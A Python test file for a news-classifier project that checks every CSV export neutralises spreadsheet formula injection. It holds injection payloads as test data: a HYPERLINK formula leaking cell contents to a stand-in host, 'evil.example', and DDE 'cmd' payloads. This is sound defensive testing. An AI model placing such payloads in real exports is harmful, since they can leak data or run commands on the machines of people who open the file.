"""No CSV cell newsclf writes starts a spreadsheet formula (issue 21, class 5).

Generated payloads (formula starters, their full-width forms, leading whitespace and control characters
some importers trim) go into every field that reaches a CSV — texts, class names, document ids, model
names — through every writer: the report's CSV files, the Results table download, the Playground's batch
download. One helper (newsclf.csvsafe) serves them all; a structural test keeps it that way.
"""
from __future__ import annotations

import csv
import io
import math
import json
import re
import shutil
from pathlib import Path

import numpy as np
import pytest

from newsclf import compare, store
from newsclf.csvsafe import TRIGGERS, neutralise, to_csv_bytes
from newsclf.report import write_report
from tests.helpers.app import app_env  # noqa: F401

ROOT = Path(__file__).resolve().parents[1]
STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BODIES = ['HYPERLINK("http://evil.example/?leak="&A1,"click")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0",
          "2+3", "1", ""]
PREFIXES = ["", " ", "  ", "\u00a0", "\u3000", "\x00", "\x0b"]
PAYLOADS = sorted({p + s + b for p in PREFIXES for s in STARTS for b in BODIES} | {"\t=1+1", "\r=1+1", "\n=1+1",
                                                                                  "\t", "\r@x"})
BENIGN = ["hello", "a=b", "2-3", "sci.space", "train/sci.space/61234", "", "x@y.z", "1e5", "'already quoted"]


def _dangerous(cell: str) -> bool:
    """Would a spreadsheet (after trimming leading blanks, as some importers do) read this cell as a formula?"""
    return bool(cell) and (cell[0] in "\t\r\n" or cell.lstrip(" \t\r\n\x0b\x0c\x00\u00a0\u3000")[:1] in TRIGGERS)


def _number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return cell in ("True", "False")


def _cells(data: bytes) -> list[str]:
    """The cells of a CSV that are not plain numbers or booleans (those are never formulas)."""
    rows = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    return [cell for row in rows for cell in row if not _number(cell)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_payload_is_neutralised(payload):
    assert neutralise(payload).startswith("'")
    assert not _dangerous(neutralise(payload)) or neutralise(payload)[0] == "'"
    frame = __import__("pandas").DataFrame({"text": [payload], payload: [1.5], "x": [float("-inf")]})
    for cell in _cells(to_csv_bytes(frame)):
        assert not _dangerous(cell), repr(cell)


@pytest.mark.parametrize("value", BENIGN + [-2.5, 3, None, float("nan")])
def test_harmless_cells_and_numbers_are_left_as_they_are(value):
    assert neutralise(value) is value or neutralise(value) == value


def _payload_runs(tiny_runs, tmp_path: Path) -> tuple[Path, list[str]]:
    """Two finished runs whose class names and document ids are formula payloads."""
    runs = tmp_path / "runs"
    ids = []
    labels = [f"{PAYLOADS[(7 * i) % len(PAYLOADS)]}#{i}" for i in range(20)]
    for kind in ("tfidf", "bilstm"):
        run = runs / tiny_runs[kind].name
        shutil.copytree(tiny_runs[kind], run)
        (run / store.LABELS).write_text(json.dumps(labels))
        results = json.loads((run / store.RESULTS).read_text())
        results["label_names"] = labels
        (run / store.RESULTS).write_text(json.dumps(results))
        for split in ("val", "test"):
            path = run / f"predictions_{split}.npz"
            with np.load(path) as data:
                arrays = {k: data[k] for k in data.files}
            arrays["doc_id"] = np.array([PAYLOADS[i % len(PAYLOADS)] + f"/{i}" for i in range(len(arrays["doc_id"]))])
            np.savez_compressed(path, **arrays)
        ids.append(run.name)
    return runs, ids


def test_no_report_csv_starts_a_formula(tiny_runs, tmp_path):
    runs, ids = _payload_runs(tiny_runs, tmp_path)
    paths = write_report(ids, tmp_path / "report", runs, None, n_boot=1000)
    written = [p for name, p in paths.items() if name.endswith(".csv")]
    assert len(written) == 7
    seen_payload = False
    for path in written:
        for cell in _cells(path.read_bytes()):
            assert not _dangerous(cell), (path.name, cell)
            seen_payload |= cell.startswith("'")
    assert seen_payload  # the payloads did reach the CSVs, neutralised


def test_the_results_table_download_neutralises_model_names(tiny_runs, tmp_path):
    run = tmp_path / "runs" / tiny_runs["transformer"].name
    shutil.copytree(tiny_runs["transformer"], run)
    config = json.loads((run / store.CONFIG).read_text())
    config["pretrained"] = "/models/=HYPERLINK(\"http://evil\")"  # a folder name becomes the model name
    (run / store.CONFIG).write_text(json.dumps(config))
    (run / store.BEST / "config.json").write_text(json.dumps({**json.loads((run / store.BEST / "config.json")
                                                                          .read_text()), "_name_or_path": "@SUM(1)"}))
    table = compare.comparison_table(store.finished_runs(tmp_path / "runs"))
    assert any(str(v).lstrip().startswith(("=", "@")) for v in table.to_numpy().ravel())  # the payload is there
    for cell in _cells(to_csv_bytes(table)):
        assert not _dangerous(cell), cell


def test_the_playground_batch_download_neutralises_texts(app_env):
    from newsclf.ui import batch_view

    texts, total = batch_view.split_texts("\n\n".join(PAYLOADS[:40]), 500)
    run_id = next(p.name for p in app_env["runs_dir"].iterdir() if p.name.endswith("-tfidf"))
    table, problems = batch_view.batch_table(texts, [run_id], {run_id: "=cmd|' /C calc'!A0"})
    assert not problems and total == len([p for p in PAYLOADS[:40] if p.strip()])
    data = to_csv_bytes(table)
    for cell in _cells(data):
        assert not _dangerous(cell), cell
    uploaded, _ = batch_view.read_upload("x.csv", data, 500)  # and it reads back as the texts, quoted
    assert all(u.startswith("'") for u in uploaded if _dangerous(u[1:]))


def test_every_csv_writer_goes_through_csvsafe():
    """Structural: no module writes CSV but newsclf/csvsafe.py (to_csv / csv.writer / DictWriter)."""
    offenders = []
    for path in [*ROOT.glob("newsclf/**/*.py"), *ROOT.glob("pages/*.py"), ROOT / "app.py"]:
        if path.name == "csvsafe.py":
            continue
        text = path.read_text()
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, offenders
